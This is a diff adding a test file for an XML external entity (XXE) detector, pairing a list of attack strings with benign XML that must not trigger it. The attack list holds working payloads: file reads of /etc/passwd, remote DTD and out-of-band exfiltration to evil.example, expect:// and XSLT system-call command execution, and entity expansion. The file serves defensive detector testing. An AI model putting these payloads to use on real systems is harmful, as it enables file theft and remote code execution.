@@ -1,0 +1,93 @@
+import { detectXxe } from "../../../../assembly/core/match/xxe";
+import { detects } from "./detector-rows";
+
+const ATTACKS: string[] = [
+  '<!ENTITY x SYSTEM "file:///etc/passwd">',
+  "<!entity x system 'file:///etc/passwd'>",
+  '<!ENTITY % d SYSTEM "http://evil.example/e.dtd">',
+  '<!ENTITY % d PUBLIC "x" "http://evil.example/e.dtd">',
+  '<!ENTITY &#x25; d SYSTEM "http://evil.example/e.dtd">',
+  '<!ENTITY a PUBLIC "b" "c">',
+  '<!DOCTYPE r [<!ENTITY a "b">]>',
+  '<!DOCTYPE r [ <!ELEMENT r ANY > <!ENTITY x SYSTEM "file:///c:/boot.ini" >]><r>&x;</r>',
+  '<?xml version="1.0"?>\n<!DOCTYPE r [\n<!ENTITY x SYSTEM "expect://id">\n]>',
+  "<!DOCTYPE x [ %dtd; ]>",
+  "<!DOCTYPE x [<!-- a --><!ENTITY",
+  "<!DOCTYPE foo [",
+  '<!ENTITY a1 "&a0;&a0;&a0;">',
+  "<!ENTITY % all \"<!ENTITY send SYSTEM 'http://evil.example/?%file;'>\">",
+  '<!DOCTYPE r SYSTEM "http://evil.example/e.dtd">',
+  "<!DOCTYPE r SYSTEM 'file:///etc/passwd'>",
+  '<!DOCTYPE r SYSTEM "php://filter/read=convert.base64-encode/resource=/etc/passwd"><r/>',
+  '<!DOCTYPE a PUBLIC "b" "file:///x">',
+  '<!DOCTYPE a PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://10.0.0.1/x.dtd">',
+  '<!DOCTYPE a PUBLIC "x" "https://evil.example/x.dtd">',
+  '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/hostname">]><svg><text>&x;</text></svg>',
+  '<![CDATA[<!DOCTYPE doc [<!ENTITY % dtd SYSTEM "http://evil.example/"> %dtd;]><x/>]]>',
+  '<xi:include href="file:///etc/passwd" parse="text"/>',
+  '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="x"/></a>',
+  '<a xmlns:q="http://www.w3.org/2001/XInclude"><q:include href="file:///etc/passwd"/></a>',
+  '<xi:include  parse = "text">',
+  "<xsl:value-of select=\"system-property('xsl:vendor')\"/>",
+  "<xsl:copy-of select=\"document('/etc/passwd')\"/>",
+  "<xsl:value-of select=\"unparsed-text('/etc/passwd', 'utf-8')\"/>",
+  "<xsl:value-of select=\"php:function('system','id')\"/>",
+  "<xsl:value-of select=\"rt:exec(rt:getRuntime(),'id')\"/>",
+  '<xsl:include href="http://evil.example/x.xsl"/>',
+  '<xsl:import href="file:///etc/passwd"/>',
+  '<xsl:stylesheet version="1.0" xmlns:rt="http://xml.apache.org/xalan/java/java.lang.Runtime">',
+  '<msxsl:script language="C#" implements-prefix="user">x</msxsl:script>',
+  '<exploit:document href="evil.txt" method="text">',
+];
+
+const BENIGN: string[] = [
+  "<!DOCTYPE html>",
+  "<!doctype html><html><body>x</body></html>",
+  '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
+  '<!DOCTYPE html SYSTEM "about:legacy-compat">',
+  '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">',
+  '<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">',
+  '<!DOCTYPE mapper PUBLIC "-//mybatis.org//DTD Mapper 3.0//EN" "http://mybatis.org/dtd/mybatis-3-mapper.dtd">',
+  '<!DOCTYPE properties SYSTEM "http://java.sun.com/dtd/properties.dtd">',
+  '<!DOCTYPE log4j:configuration SYSTEM "log4j.dtd">',
+  '<!DOCTYPE note SYSTEM "note.dtd">',
+  '<!ENTITY copy "&#169;">',
+  '<!ENTITY nbsp "&#160;">',
+  '<!ENTITY company "Acme &amp; Sons">',
+  "<!-- entity x system -->",
+  "doctype [x]",
+  "use <!DOCTYPE at the top",
+  "entity system public",
+  "<note><to>A</to><from>B</from></note>",
+  '<?xml version="1.0" encoding="UTF-8"?><order id="7"><total>19.90</total></order>',
+  '<project xmlns="http://maven.apache.org/POM/4.0.0" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://maven.apache.org/POM/4.0.0 http://maven.apache.org/xsd/maven-4.0.0.xsd">',
+  '<xs:include schemaLocation="types.xsd"/>',
+  '<xs:import namespace="urn:a" schemaLocation="a.xsd"/>',
+  '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><m:Get xmlns:m="urn:x"/></soap:Body></soap:Envelope>',
+  '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">',
+  '<xsl:template match="/"><xsl:value-of select="name"/></xsl:template>',
+  '<xsl:include href="common.xsl"/>',
+  "<xsl:value-of select=\"format-number(price, '#.00')\"/>",
+  "<xsl:value-of select=\"document('')/xsl:stylesheet/@version\"/>",
+  '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>',
+  "<![CDATA[ a < b ]]>",
+  "<![CDATA[<p>text</p>]]>",
+  '<include href="x">',
+  "<xi:fallback>",
+  '<a href="http://x.example/y?a=b">c</a>',
+  'if (a <b && c> d) x = "y";',
+  "Jane <jane:doe@x.example>",
+  "<",
+  "<!",
+  "<!DOCTYPE",
+  "<!ENTITY",
+];
+
+describe("core/match/xxe detectXxe", () => {
+  test("documents that reach for something outside", () => {
+    for (let i = 0; i < ATTACKS.length; i++) expect(detects(ATTACKS[i], detectXxe)).toBe(true, ATTACKS[i]);
+  });
+  test("documents that do not", () => {
+    for (let i = 0; i < BENIGN.length; i++) expect(detects(BENIGN[i], detectXxe)).toBe(false, BENIGN[i]);
+  });
+});
